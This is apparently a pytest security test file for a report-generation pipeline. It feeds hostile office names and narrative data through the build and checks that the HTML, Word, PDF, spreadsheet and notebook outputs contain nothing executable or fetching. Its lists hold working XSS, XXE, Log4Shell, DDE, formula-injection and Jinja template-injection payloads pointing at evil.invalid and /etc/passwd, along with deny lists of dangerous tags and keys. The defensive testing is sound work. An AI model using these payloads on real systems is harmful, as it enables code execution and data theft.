"""Narrative and office names are data: whatever an office writes, nothing that could run or fetch arrives anywhere.

One report full of hostile words is made by the whole pipeline; then every file of it is looked through.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import openpyxl
import pypdf
import pytest
from lxml import etree, html

from browser import CHROMIUM, Browser
from extract import bare, docx_text, html_text, pdf_text
from nianbao.form import TABLE_MIME
from nianbao.inputs import load, render
from nianbao.model import ReportKey
from nianbao.paths import Project

# One worker makes the report that all these tests look at.
pytestmark = pytest.mark.slow

KEY = ReportKey("shili", 2023)
LINK = "https://example.invalid/policy"  # the one address that the narrative links to in earnest

HTML = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<iframe src=https://evil.invalid></iframe>",
    "<style>*{background:url(//evil.invalid)}</style>",
    "<base href=//evil.invalid><meta http-equiv=refresh content=0>",
    "</title></p></table><script>window.hit=1</script>",
    '" onmouseover="window.hit=1" x=\'',
    "' onfocus='window.hit=1' autofocus='",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<!-- 评论 --><![CDATA[<script>]]>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
]
MARKDOWN = [
    "[点此](javascript:window.hit=1)",
    "[点此](JaVaScRiPt:window.hit=1)",
    "[点此](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[点此](vbscript:x) [文件](file:///etc/passwd)",
    "![图](https://evil.invalid/pixel.png)",
    "![图][远方]\n\n[远方]: https://evil.invalid/pixel.png",
]
CODE = [
    '#read("/etc/passwd")',
    '#import "evil.typ": *',
    '#eval("1+1") #panic("x") $a_1$ @ref <label>',
    r"\input{/etc/passwd} \u{41}",
    "<%= 7*7 %> ${jndi:ldap://evil.invalid/a} $\\href{javascript:window.hit=1}{x}$",
]
WORD = [
    r'{ INCLUDETEXT "C:\\secret.txt" }',
    r"{ DDEAUTO c:\\windows\\system32\\cmd.exe }",
    ']]></w:t><w:fldSimple w:instr="DATE"/><w:t>',
]
SHEET = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.invalid","x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]
# In data only: the narrative is a template in earnest, see the last test.
TEMPLATES = ["{{ 7*7 }}", "{% import os %}", "{{ ''.__class__.__mro__ }}"]
NAME = """示例<b onclick="window.hit=1">&'"#read("/etc/passwd") =1+1 {{ 7*7 }} [点](javascript:window.hit=1)</b>局"""


@pytest.fixture(scope="module")
def hostile(repository: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a finished report whose office writes nothing but traps."""
    root = tmp_path_factory.mktemp("hostile")
    for folder in ("params", "data", "notebooks", "expectations"):
        shutil.copytree(repository.root / folder, root / folder)
    project = Project(root)
    _poison(project)
    call = [sys.executable, "-m", "nianbao", "--project", str(root), "report", KEY.office, str(KEY.year)]
    done = subprocess.run(
        [*call, "--profile", "illustrated", "--draft", "--no-store"], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    folder = project.output_of(KEY, draft=True)
    for path in folder.glob("*-草稿.*"):
        path.rename(path.with_name(path.name.replace("-草稿", "")))
    return folder


def _poison(project: Project) -> None:
    office = project.office_file(KEY.office)
    office.write_text(
        re.sub(r"(?m)^name: .*$", f"name: {json.dumps(NAME, ensure_ascii=False)}", office.read_text("utf-8")), "utf-8"
    )
    data = project.data_of(KEY)
    narrative = "\n\n".join([*HTML, *MARKDOWN, *CODE, *WORD, *SHEET, f"[办法]({LINK})"])
    for stem in ("01_overview", "02_proactive", "05_problems"):
        (data / "narrative" / f"{stem}.md").write_text(narrative, "utf-8")
    # Labels are printed on the 图解 page and said in its alternative text; cells are printed in tables.
    lines = (data / "figures.csv").read_text("utf-8").splitlines()
    labels = iter([*HTML, *TEMPLATES])
    lines[1:] = [_relabelled(line, next(labels, None)) for line in lines[1:]]
    (data / "figures.csv").write_text("\n".join(lines) + "\n", "utf-8")
    rows = (data / "proactive.csv").read_text("utf-8").splitlines()
    cells = iter([*SHEET, *WORD, *CODE, *HTML])
    rows[1:] = [",".join([*row.split(",")[:3], _quoted(next(cells))]) for row in rows[1:]]
    (data / "proactive.csv").write_text("\n".join(rows) + "\n", "utf-8")


def _relabelled(line: str, label: str | None) -> str:
    key, old, value, unit, note = line.split(",", 4)
    return ",".join([key, _quoted(label) if label else old, value, unit, note])


def _quoted(words: str) -> str:
    return '"' + words.replace('"', '""') + '"'


def test_what_the_office_writes_arrives_as_words(hostile: Path) -> None:
    texts = {
        "report.html": bare(html_text((hostile / "report.html").read_bytes())),
        "report.docx": bare(docx_text((hostile / "report.docx").read_bytes())),
        "report.pdf": bare(pdf_text((hostile / "report.pdf").read_bytes())),
    }
    for name, text in texts.items():
        assert bare(NAME)[:20] in text, name
        # Markdown reads entities, escapes and some comments its own way; all else stands as written.
        for words in (*HTML[:8], *CODE[:3], *WORD[2:], *SHEET[:2]):
            assert bare(words) in text, (name, words)


def test_the_web_page_holds_nothing_that_runs_or_fetches(hostile: Path) -> None:
    for name in ("report.html", "findings.html"):
        root = html.fromstring((hostile / name).read_text("utf-8"))
        assert [script.get("type") for script in root.iter("script")] in ([], ["application/ld+json"])
        for script in root.iter("script"):
            assert json.loads(script.text)["author"]["name"] == NAME
            assert "<" not in script.text
        tags = {str(element.tag) for element in root.iter() if isinstance(element.tag, str)}
        assert not tags & {
            "iframe",
            "object",
            "embed",
            "form",
            "base",
            "link",
            "foreignObject",
            "animate",
            "set",
        }
        assert not [style for style in root.iter("style") if re.search(r"url\(|@import|expression", style.text or "")]
        for element in root.iter():
            for key, value in element.attrib.items():
                assert not key.lower().startswith("on"), (name, key, value)
                if element.tag == "img" and key == "src":
                    assert value.startswith("data:image/"), (name, value[:40])
                elif key.lower() in {"href", "src", "xlink:href", "action", "srcset", "data"}:
                    assert re.fullmatch(
                        rf"#[\w-]+|report(?:-草稿)?\.\w+|tables(?:-草稿)?\.xlsx|{re.escape(LINK)}", value
                    ), (name, value)
        assert not [meta for meta in root.iter("meta") if meta.get("http-equiv", "").lower() == "refresh"]


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_nothing_runs_in_a_browser(hostile: Path, tmp_path: Path) -> None:
    with Browser(tmp_path) as browser:
        for name in ("report.html", "findings.html"):
            browser.open(hostile / name)
            # Only the file itself: nothing else is asked for.
            fetched = browser.run("performance.getEntriesByType('resource').map(entry => entry.name)")
            assert fetched == []
            assert (
                browser.run("document.querySelectorAll('a').forEach(a => a.focus()); typeof window.hit") == "undefined"
            )


def _objects(reader: pypdf.PdfReader) -> Iterator[Any]:
    for number in range(1, len(reader.xref[0]) + len(reader.xref_objStm) + 2):
        found = reader.get_object(number)
        waiting = [found]
        while waiting:
            item = waiting.pop()
            if isinstance(item, dict):
                yield item
                waiting += [value for value in item.values() if isinstance(value, dict | list)]
            elif isinstance(item, list):
                waiting += [value for value in item if isinstance(value, dict | list)]


def test_the_pdf_holds_no_action_and_no_file(hostile: Path) -> None:
    reader = pypdf.PdfReader(io.BytesIO((hostile / "report.pdf").read_bytes()))
    found = list(_objects(reader))
    assert len(found) > 1000
    keys = {key for item in found for key in item}
    assert not keys & {
        "/JS",
        "/AA",
        "/OpenAction",
        "/EmbeddedFile",
        "/EmbeddedFiles",
        "/AF",
        "/AcroForm",
        "/RichMedia",
        "/XFA",
    }
    actions = [item for item in found if item.get("/Type") == "/Action" or "/URI" in item]
    assert {str(action["/S"]) for action in actions} <= {"/URI", "/GoTo"}
    assert {str(action["/URI"]) for action in actions if "/URI" in action} == {LINK}
    assert b"root:" not in (hostile / "report.pdf").read_bytes()
    assert "root:" not in pdf_text((hostile / "report.pdf").read_bytes())


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _outside(parts: dict[str, bytes]) -> list[str]:
    relations = (etree.fromstring(part) for name, part in parts.items() if name.endswith(".rels"))
    return [str(relation.get("Target")) for root in relations for relation in root if relation.get("TargetMode")]


def test_the_docx_points_nowhere_and_its_only_fields_are_page_numbers(hostile: Path) -> None:
    parts = _parts((hostile / "report.docx").read_bytes())
    assert set(_outside(parts)) == {LINK}
    assert not [name for name in parts if re.search(r"vba|embed|activeX|afchunk|externalLink|customXml", name, re.I)]
    for name, part in parts.items():
        if name.endswith(".xml"):
            root = etree.fromstring(part)
            local = [etree.QName(element).localname for element in root.iter() if isinstance(element.tag, str)]
            forbidden = {"fldSimple", "object", "altChunk", "attachedTemplate", "control", "dde", "subDoc"}
            assert not forbidden & {*local}, name
            fields = ["".join(e.itertext()) for e in root.iter() if str(e.tag).endswith("}instrText")]
            assert set(fields) <= {" PAGE "}, name
            assert b"<!DOCTYPE" not in part[:200]


# A sum or a difference of cells of the workbook's own tables: SUM('表3 依申请公开'!D5:D6), D2-E2.
_CELLS = r"(?:'表\d [一-龥]+'!)?[A-Z]{1,2}\d+"
_OWN_SUM = re.compile(rf"=(?:SUM\({_CELLS}(?::[A-Z]{{1,2}}\d+)?\)|{_CELLS}(?:[+-]{_CELLS})*)")


def test_the_workbook_calculates_nothing_but_its_own_sums_and_points_nowhere(hostile: Path) -> None:
    content = (hostile / "tables.xlsx").read_bytes()
    parts = _parts(content)
    assert _outside(parts) == []
    assert not [name for name in parts if re.search(r"vba|externalLink|connection|embed|query", name, re.I)]
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.hyperlink]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas
    assert not [formula for formula in formulas if not _OWN_SUM.fullmatch(formula)]
    shown = {cell.value for cell in cells if cell.data_type == "s"}
    assert {"=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)"} <= shown
    for sheet in book.worksheets:
        assert {*sheet.defined_names} <= {"_xlnm.Print_Area", "_xlnm.Print_Titles", "_xlnm._FilterDatabase"}


def test_the_notebooks_hold_no_markup_of_others(hostile: Path) -> None:
    paths = [hostile / "report.ipynb", *sorted((hostile / "sections").glob("*.ipynb"))]
    assert len(paths) == 7
    kinds = set()
    for path in paths:
        notebook = nbformat.read(path, as_version=4)
        for output in (output for cell in notebook.cells for output in cell.get("outputs", ())):
            kinds |= {*output.data}
            if page := output.data.get("text/html"):
                assert {str(node.tag) for node in html.fragment_fromstring(page, "div").iter()} <= {
                    "div", "table", "caption", "tr", "th", "td", "thead", "tbody", "style",
                }  # fmt: skip # thead and style are those of pandas' frames
                tags = re.sub(r' style="[a-z0-9 :;-]*"', "", re.sub(r">[^<]*<", "><", page))
                assert not re.search(r"\s(?:on\w+|style|href|src)=", tags)
            # What is displayed as Markdown may hold HTML, pictures from elsewhere and formulas, and here it does not.
            shown = output.data.get("text/markdown", "").replace("<br>", "")
            assert not re.search(r"<|!\[|\$", shown), shown
            if drawing := output.data.get("image/svg+xml"):
                tags = {etree.QName(node).localname for node in etree.fromstring(drawing.encode()).iter("{*}*")}
                assert not tags & {"script", "foreignObject", "a", "image", "animate"}
    assert kinds <= {
        "text/html", "text/plain", "text/markdown", "image/svg+xml", TABLE_MIME, "application/vnd.nianbao.block+json",
    }  # fmt: skip


def test_templates_in_data_are_not_filled_in(hostile: Path) -> None:
    text = html_text((hostile / "report.html").read_bytes())
    assert "{{ 7*7 }}" in text
    assert "49" not in re.findall(r"局.{0,3}(\d+)", text)


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ figures.website.__init__.__globals__ }}",
        "{{ self._TemplateReference__context }}",
        "{% import 'os' as os %}",
        "{% include '/etc/passwd' %}",
        "{{ lipsum.__globals__.os.popen('id').read() }}",
        "{{ cycler.__init__ }}",
        "{% for x in range(999999999) %}x{% endfor %}",
    ],
)
def test_a_narrative_that_reaches_outside_its_numbers_is_an_error(project: Project, template: str) -> None:
    path = project.data_of(KEY) / "narrative" / "06_other.md"
    path.write_text(f"收费情况。{template}\n", "utf-8")
    report = load(project, KEY)
    rendered = render(report.texts["other"], report, lambda: None)
    issues = [*report.issues, *rendered.issues]
    assert issues
    assert {issue.source.path for issue in issues} == {"data/shili/2023/narrative/06_other.md"}
    assert "root:" not in rendered.text
